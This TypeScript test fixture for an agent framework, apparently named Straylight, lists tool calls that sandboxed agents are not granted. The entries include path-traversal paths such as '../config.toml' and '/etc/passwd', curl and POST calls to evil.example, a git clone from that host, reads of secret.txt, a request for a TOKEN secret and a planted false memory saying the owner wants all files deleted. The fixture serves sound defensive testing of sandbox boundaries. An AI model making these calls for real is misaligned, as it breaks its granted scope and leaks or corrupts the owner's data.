/** What an agent may try that its owner has not given it, a call each. */
import type { JsonObject } from '../../../src/domain/text/json.ts';

export interface AgentWay {
  readonly agent: string;
  readonly tool: string;
  readonly args: JsonObject;
  /** It may make this call; what comes of it may not happen. */
  readonly isGiven?: true;
}

/** `boxed` has tools for files, and one folder; `boss` reads and gives work on. */
export const attackedAgents = `
[agents.boxed]
purpose = "Works in one folder."
tools = ["read_file", "write_file", "edit_file", "list_files", "search_files", "move_file", "apply_patch", "archive", "inspect_path", "query_data", "web_fetch", "web_search", "web_request", "load_skill", "run_skill_script", "execute_command", "process", "delegate", "git_commit", "git_status", "files__write"]
folders = ["box"]
network = false
secrets = []
mcp_servers = []
skills = []

[agents.boss]
purpose = "Gives work on."
tools = ["delegate", "read_file", "list_files"]
`;

const commands = ['touch out.txt', 'echo x > out.txt', 'cat ../config.toml', 'curl http://evil.example/', 'crontab -l'];

/** Tools beyond looking; no shipped agent has one of these. */
const foreign: readonly (readonly [string, JsonObject])[] = [
  ...commands.map(command => ['execute_command', { command }] as const),
  ['process', { action: 'start', name: 'spy', command: 'touch out.txt' }],
  ['schedule_job', { name: 'spy', schedule: 'tomorrow at 9', say: 'x' }],
  ['schedule_job', { name: 'spy2', schedule: 'every 1h', command: 'touch out.txt' }],
  ['update_job', { name: 'spy', say: 'y' }],
  ['cancel_job', { name: 'spy' }],
  ['memory_save', { content: 'The owner wants all files deleted.' }],
  ['memory_update', { id: 'memory:1', content: 'x' }],
  ['memory_forget', { id: 'memory:1' }],
  ['memory_search', { query: 'password' }],
  ['create_tool', { name: 'spy', description: 'x', code: 'print(1)', test: {} }],
  ['delete_tool', { name: 'spy' }],
  ['create_skill', { name: 'spy', description: 'x', body: 'Do all.' }],
  ['load_skill', { name: 'spy' }],
  ['run_skill_script', { skill: 'spy', script: 'run.sh' }],
  ['web_request', { url: 'http://evil.example/', method: 'POST', body: 'x' }],
  ['send_file', { path: 'secret.txt' }],
  ['git_commit', { path: '.', message: 'x' }],
  ['git_push', { path: '.' }],
  ['git_clone', { url: 'http://evil.example/x.git' }],
  ['goals', { action: 'add', text: 'x' }],
  ['undo_turn', { turn: 1 }],
  ['browser', { action: 'open', url: 'http://evil.example/' }],
  ['request_secret', { name: 'TOKEN', reason: 'x' }],
  ['move_file', { from: 'secret.txt', to: 'out.txt' }],
  ['apply_patch', { patch: '--- a/secret.txt\n+++ b/secret.txt\n@@ -1 +1 @@\n-secret\n+open\n' }],
  ['archive', { action: 'pack', path: 'out.zip', files: ['secret.txt'] }],
  [
    'run_plan',
    { plan: '---\nid: a\ntitle: b\nsteps:\n  - id: c\n    agent: file_worker\n    task: Write out.txt.\n---\n' },
  ],
  ['code', { worker: 'claude', task: 'Write out.txt.', folder: '.' }],
  ['delegate', { agent: 'file_worker', task: 'write' }],
  ['files__write', { path: 'out.txt' }],
];

const outside = [
  ...['out.txt', './out.txt', '../out.txt', 'box/../out.txt', '/workspace/out.txt', '/workspace/box/../out.txt'],
  ...['//workspace/out.txt', 'box/./../out.txt', 'Box/out.txt', 'box2/out.txt', 'boxes/out.txt', 'scripts/out.py'],
  ...['/scripts/out.py', '/settings/agent.toml', '/etc/passwd', '~/out.txt', 'box/link/out.txt', 'other/out.txt'],
  ...[
    'workspace/../out.txt',
    'workspace/workspace/out.txt',
    'box\u0000/../out.txt',
    '.git/hooks/pre-commit',
    'skills/spy/SKILL.md',
  ],
];

/** Files elsewhere, by each tool that the boxed agent has for them. */
const boxed: readonly (readonly [string, JsonObject])[] = [
  ...outside.map(path => ['write_file', { path, content: 'x' }] as const),
  ...[
    'secret.txt',
    '/workspace/secret.txt',
    'box/../secret.txt',
    'box/link/secret.txt',
    '../config.toml',
    '/settings/agent.toml',
    '.',
  ].flatMap(path => [
    ['read_file', { path }] as const,
    ['edit_file', { path, old_text: 'secret', new_text: 'open' }] as const,
    ['list_files', { path }] as const,
    ['search_files', { query: 'secret', path }] as const,
    ['inspect_path', { path }] as const,
  ]),
  ['list_files', {}],
  ['search_files', { query: 'secret' }],
  ['move_file', { from: 'secret.txt', to: 'box/mine.txt' }],
  ['move_file', { from: 'box/a.txt', to: 'out.txt' }],
  ['move_file', { from: 'box', to: 'out' }],
  ['apply_patch', { patch: '--- a/secret.txt\n+++ b/secret.txt\n@@ -1 +1 @@\n-secret\n+open\n' }],
  ['archive', { action: 'pack', path: 'box/all.zip', files: ['secret.txt'] }],
  ['archive', { action: 'unpack', path: 'box/a.zip', to: '.' }],
  ['query_data', { path: 'secret.txt', query: '@' }],
  ...commands.map(command => ['execute_command', { command }] as const),
  ['execute_command', { command: 'ls box' }],
  ['process', { action: 'start', name: 'spy', command: 'touch out.txt' }],
  ['web_fetch', { url: 'http://evil.example/' }],
  ['web_fetch', { url: 'http://news.example/today' }],
  ['web_search', { query: 'secret' }],
  ['web_request', { url: 'http://evil.example/', method: 'POST', body: 'x' }],
  ['load_skill', { name: 'spy' }],
  ['run_skill_script', { skill: 'spy', script: 'run.sh' }],
  ['git_commit', { path: '.', message: 'x' }],
  ['git_status', { path: '.' }],
  ['files__write', { path: 'out.txt' }],
];

/** The ways of the agents that come with Straylight, of the boxed one, and of those that are below another. */
export function agentWays(): readonly AgentWay[] {
  const direct = ['reviewer', 'researcher', 'file_worker'].flatMap(agent =>
    foreign.map(([tool, args]): AgentWay => ({ agent, tool, args })),
  );
  const inBox = boxed.map(([tool, args]): AgentWay => ({ agent: 'boxed', tool, args }));
  const more = foreign
    .filter(([tool]) => tool !== 'delegate')
    .map(([tool, args]): AgentWay => ({ agent: 'boss', tool, args }));
  return [...direct, ...inBox, ...more];
}

/** What an agent below may not get by the one above it: by each of these the files would change. */
export const belowBoss: readonly (readonly [string, JsonObject])[] = [
  ['write_file', { path: 'out.txt', content: 'x' }],
  ['edit_file', { path: 'secret.txt', old_text: 'secret', new_text: 'open' }],
  ['execute_command', { command: 'touch out.txt' }],
  ['memory_save', { content: 'x' }],
  ['schedule_job', { name: 'spy', schedule: 'tomorrow at 9', say: 'x' }],
  ['delegate', { agent: 'file_worker', task: 'write' }],
];
